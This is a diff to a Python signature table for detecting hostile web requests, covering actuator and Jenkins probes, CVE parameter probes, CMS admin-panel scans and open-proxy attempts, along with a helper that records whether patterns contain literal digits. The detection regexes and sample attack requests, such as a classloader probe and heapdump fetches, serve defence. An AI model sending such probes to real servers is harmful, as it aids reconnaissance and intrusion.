-     br"^/(?:[\w-]{1,30}/){0,2}(?:actuator(?:/(?:env|heapdump|gateway|logfile|mappings|jolokia|threaddump|beans|configprops|httptrace|trace|refresh|restart|shutdown)|$|/$)|jolokia(?:/|$)|solr/(?:admin|#|select|\w+/(?:config|select|dataimport))|_async/|wls-wsat/|invoker/(?:jmx|ejb|readonly)|jmx-console\b|manager/(?:html|text|status)|host-manager/|axis2(?:-admin|-web|/)|nacos/|druid/(?:index|login|v2|indexer)|geoserver/|securityrealm/|rest/tinymce|webtools/control|functionrouter\b)|^/console/(?:login|j_security|css|framework|images/%|\.)|\.action$|^/s/[^/]{3,80}/_/;/|^/(?:jenkins|hudson)/(?:script|login|securityrealm|asynchpeople)|^/script$|^/cluster/(?:cluster|apps|nodes)",
+     br"^/(?:[\w-]{1,30}/){0,2}(?:actuator(?:/(?:env|heapdump|gateway|logfile|mappings|jolokia|threaddump|beans|configprops|httptrace|trace|refresh|restart|shutdown)|$|/$)|jolokia(?:/|$)|solr/(?:admin|#|select|\w+/(?:config|select|dataimport))|_async/|wls-wsat/|invoker/(?:jmx|ejb|readonly)|jmx-console\b|manager/(?:html|text|status)|host-manager/|axis\d(?:-admin|-web|/)|nacos/|druid/(?:index|login|v\d|indexer)|geoserver/|securityrealm/|rest/tinymce|webtools/control|functionrouter\b)|^/console/(?:login|j_security|css|framework|images/%|\.)|\.action$|^/s/[^/]{3,80}/_/;/|^/(?:jenkins|hudson)/(?:script|login|securityrealm|asynchpeople)|^/script$|^/cluster/(?:cluster|apps|nodes)",
      "Java servers with known holes", "GET /actuator/heapdump", "GET /in-action"),
     ("cve_appliance", "cve", "critical", "path",
      (b"remote", b"hnap", b"gponform", b"boaform", b"cgi", b"dana", b"dana-na", b"vpn", b"vpns", b"cscoe", b"ecp", b"mapi", b"ews", b"tmui", b"mgmt", b"vcav", b"ui", b"websso",
@@ -300,14 +302,14 @@ _TABLE = (
      br"/cgi-bin(?:/|$)|^/cgi/|^/owa(?:/|$)|^/sdk/?$|^/aspnet_client(?:/|$)|^/_search(?:\?|$)|^/dns-query\?(?:dns|name)=|^/resolve\?name=|^/json/version$|^/autodiscover/|^/login\.(?:html?\?|action|cgi|asp)",
      "services that some servers really have", "GET /cgi-bin/luci", "GET /owasp"),
     ("cve_parameter", "cve", "high", "target",
-     (b"xdebug_session_start", b"classloader", b"redirect", b"graphapi", b"fgt_lang", b"request", b"routestring", b"captcha", b"author",
-      b"rest_route", b"provider-logo", b"%{", b"option=com_", b"__construct", b"s=/index", b"s=index", b"?-"),
+     (b"xdebug_session_start", b"classloader", b"graphapi", b"fgt_lang", b"request", b"routestring", b"captcha", b"rest_route", b"?author=",
+      b"provider-logo", b"{", b"option=com_", b"__construct", b"s=/index", b"s=index", b"?-"),
      br"/provider-logo\?url=|\bxdebug_session_start=|class\.module\.classloader\b|=%\{|\bredirect:\$\{|/graphapi/|\bfgt_lang\?lang=/|view=request&request=log&task=create|view=request&request=[^&]+&[^?]{0,300}\bcommand=\w|option=com_\w+&[^?]{0,200}(?:controller=\.|view=|list\[)|routestring=|_method=__construct|\bs=(?:/index/|captcha|index/)|\?author=\d{1,3}$|rest_route=/wp/|\?-d\s|\?-s$|\?-d\x00",
      "parameters of known holes", "GET /path/?class.module.classLoader.URLs[0]=0", "GET /books?author=12&page=2"),
     ("cve_frontend", "?cve", "high", "path",
      (b"server", b"nginx_status", b"debug", b"debugbar", b"trace", b"elmah", b"_profiler", b"horizon", b"__debug__", b"_debugbar", b"swagger",
       b"openapi", b"info", b"test", b"env", b"heapdump", b"haproxy", b"api-docs"),
-     br"^/(?:server-(?:status|info)|nginx_status|debug(?:/(?:default|pprof|vars)|bar)|trace\.axd|elmah\.axd|_profiler|horizon/api|__debug__|_debugbar|swagger(?:-ui)?(?:\.html|\.json|/index\.html|/v1/swagger\.json|/swagger-ui\.html|-ui\.html|-resources)|(?:v\d/)?api-docs(?:/swagger\.json)?|openapi\.json|api/swagger\.(?:json|html)|info\.php|test\.php|env|heapdump|haproxy\?stats)/?$",
+     br"^/(?:server-(?:status|info)|nginx_status|debug(?:/(?:default|pprof|vars)|bar)|trace\.axd|elmah\.axd|_profiler|horizon/api|__debug__|_debugbar|swagger(?:-ui)?(?:\.html|\.json|/index\.html|/v\d/swagger\.json|/swagger-ui\.html|-ui\.html|-resources)|(?:v\d/)?api-docs(?:/swagger\.json)?|openapi\.json|api/swagger\.(?:json|html)|info\.php|test\.php|env|heapdump|haproxy\?stats)/?$",
      "status and debug pages", "GET /server-status", "GET /server-status-report"),
     # ---- CMS and admin panels
     ("wordpress", "?cms_admin", "medium", "path", (b"wp", b"xmlrpc", b"wlwmanifest", b"wordpress", b"old"),
@@ -325,7 +327,7 @@ _TABLE = (
       b"sites", b"umbraco", b"bitrix", b"moodle", b"owncloud", b"nextcloud", b"prestashop", b"opencart", b"xampp", b"siteadmin", b"airflow",
       b"admin", b"cms", b"panel", b"backend", b"install", b"setup", b"app_dev", b"mt", b"w00tw00t", b"skin", b"recordings", b"a2billing",
       b"vicidial", b"scripts", b"filemanager", b"ueditor", b"vendor", b"readme", b"license", b"changelog", b"muieblackcat"),
-     br"^/(?:[\w.-]{1,30}/)?(?:administrator|downloader|sites/default)(?:/|$)|^/(?:typo3|joomla|drupal|magento|cpanel|whm|plesk|webmail|roundcube|squirrelmail|horde|zimbra|rutorrent|grafana|kibana|zabbix|cacti|nagios|portainer|webdav|umbraco|bitrix|moodle|owncloud|nextcloud|prestashop|opencart|xampp|siteadmin|airflow|recordings|a2billing|vicidial|filemanager|ueditor|vendor|scripts/(?:setup|root|\.\.))(?:/|$|\.)|^/misc/drupal\.js|^/admin/(?:config|phpinfo|controller|fckeditor|pma|mysql)[/.]|/admin/(?:index|login|account)\.php|^/(?:cms|panel|backend|install|setup)/?(?:index\.\w+|admin|login)?/?$|/app_dev\.php|/mt-(?:check|xmlrpc|admin)\b|/w00tw00t\.|^/core/skin/login|^/(?:readme|license|changelog|install)\.(?:txt|html|md)$|/muieblackcat\b",
+     br"^/(?:[\w.-]{1,30}/)?(?:administrator|downloader|sites/default)(?:/|$)|^/(?:typo\d|joomla|drupal|magento|cpanel|whm|plesk|webmail|roundcube|squirrelmail|horde|zimbra|rutorrent|grafana|kibana|zabbix|cacti|nagios|portainer|webdav|umbraco|bitrix|moodle|owncloud|nextcloud|prestashop|opencart|xampp|siteadmin|airflow|recordings|a\dbilling|vicidial|filemanager|ueditor|vendor|scripts/(?:setup|root|\.\.))(?:/|$|\.)|^/misc/drupal\.js|^/admin/(?:config|phpinfo|controller|fckeditor|pma|mysql)[/.]|/admin/(?:index|login|account)\.php|^/(?:cms|panel|backend|install|setup)/?(?:index\.\w+|admin|login)?/?$|/app_dev\.php|/mt-(?:check|xmlrpc|admin)\b|/w\d\dtw\d\dt\.|^/core/skin/login|^/(?:readme|license|changelog|install)\.(?:txt|html|md)$|/muieblackcat\b",
      "panels and files of content management systems", "GET /administrator/index.php", "GET /administrators-handbook"),
     ("admin_page", "?cms_admin", "medium", "path",
      (b"admin", b"manager", b"user", b"adminpanel", b"adminconsole", b"adminarea", b"adminlogin", b"admincp", b"adminportal", b"admincenter",
@@ -341,7 +343,7 @@ _TABLE = (
     ("proxy_connect", "open_proxy", "critical", "line", (b"connect",),
      br"^connect\s[\w.:\[\]-]{1,255}(?:\s|$)",
      "CONNECT: a tunnel to another server", "CONNECT foo.com:25 HTTP/1.1", "GET /connect to"),
-    ("proxy_absolute", "open_proxy", "critical", "line", (b"://",),
+    ("proxy_absolute", "open_proxy", "critical", "line", (b" http://", b" https://", b" ftp://", b" tcp://"),
      br"^[a-z]{3,20}\s(?:https?|ftp|tcp)://[^/\s]{1,255}",
      "a request for another server's page", "GET http://www.example.net/ip4.php HTTP/1.0", "GET /?u= http//x"),
     # ---- scanners
@@ -362,9 +364,14 @@ _TABLE = (
      "another protocol, or the mark of a trojan", "145.ll|'|'|SGFjS2Vk", "GET / HTTP/1.0"),
 )
 
+# Digits of a pattern that stand for no certain digit: counts, byte codes, ranges of all digits.
+_NO_DIGITS = re.compile(br"\{\d*,?\d*\}|\\x[0-9a-f]{2}|0-9")
+
+
 def _signature(row):
     name, category, answered, where, literals, pattern, why, example, near_miss = row
-    return Signature(name, category.lstrip("?"), answered, category.startswith("?"), where, literals, pattern, why, example, near_miss)
+    digits = any(sign in b"0123456789" for sign in _NO_DIGITS.sub(b"", pattern))
+    return Signature(name, category.lstrip("?"), answered, category.startswith("?"), where, literals, pattern, digits, why, example, near_miss)
 
 
 SIGNATURES = tuple(_signature(row) for row in _TABLE)
